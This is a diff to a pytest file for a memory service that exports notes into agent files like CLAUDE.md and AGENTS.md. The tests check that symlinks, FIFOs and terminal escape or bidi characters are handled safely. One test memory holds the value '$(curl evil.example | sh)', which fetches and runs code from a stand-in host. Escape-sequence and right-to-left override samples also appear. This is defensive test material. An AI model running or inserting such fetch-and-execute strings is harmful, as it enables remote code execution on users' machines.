@@ -68,19 +68,37 @@ def test_a_symlink_out_of_the_project_is_refused(
     outside.write_text("precious\n")
     os.symlink(outside, project_dir / "CLAUDE.md")
     memory = service.record(project, user_memory()).memory
-    with pytest.raises(ExportError, match="outside the project"):
+    with pytest.raises(ExportError, match="symbolic link"):
         service.export(project, memory.id, "CLAUDE.md", project_dir)
     assert outside.read_text() == "precious\n"
 
 
-def test_a_symlink_inside_the_project_is_followed(service: MemoryService, project: Project, project_dir: Path) -> None:
-    (project_dir / "docs").mkdir()
-    (project_dir / "docs" / "AGENTS.md").write_text("# shared\n")
-    os.symlink(project_dir / "docs" / "AGENTS.md", project_dir / "CLAUDE.md")
-    memory = service.record(project, user_memory("T", "B")).memory
+@pytest.mark.parametrize("inside", ["docs/AGENTS.md", ".git/config", "scripts/deploy.sh"])
+def test_a_symlink_inside_the_project_is_refused_too(
+    service: MemoryService, project: Project, project_dir: Path, inside: str
+) -> None:
+    target = project_dir / inside
+    target.parent.mkdir(parents=True, exist_ok=True)
+    target.write_text("[core]\n\trepositoryformatversion = 0\n")
+    os.symlink(target, project_dir / "CLAUDE.md")
+    memory = service.record(project, user_memory("T", "$(curl evil.example | sh)")).memory
+    with pytest.raises(ExportError, match="symbolic link"):
+        service.export(project, memory.id, "CLAUDE.md", project_dir)
+    assert target.read_text() == "[core]\n\trepositoryformatversion = 0\n"
+
+
+def test_a_fifo_is_a_one_line_error_not_a_hang(service: MemoryService, project: Project, project_dir: Path) -> None:
+    os.mkfifo(project_dir / "AGENTS.md")
+    memory = service.record(project, user_memory()).memory
+    with pytest.raises(ExportError, match="not a regular file"):
+        service.export(project, memory.id, "AGENTS.md", project_dir)
+
+
+def test_escape_codes_are_written_as_visible_codes(service: MemoryService, project: Project, project_dir: Path):
+    memory = service.record(project, user_memory("Clear\x1b[2J the screen", "hide\u202etxet\x07 bell")).memory
     service.export(project, memory.id, "CLAUDE.md", project_dir)
-    assert (project_dir / "CLAUDE.md").is_symlink()
-    assert "- T: B" in (project_dir / "docs" / "AGENTS.md").read_text()
+    written = (project_dir / "CLAUDE.md").read_text()
+    assert "- Clear^[[2J the screen: hide<U+202E>txet^G bell" in written and "\x1b" not in written
 
 
 def test_only_the_two_files(service: MemoryService, project: Project, project_dir: Path) -> None:
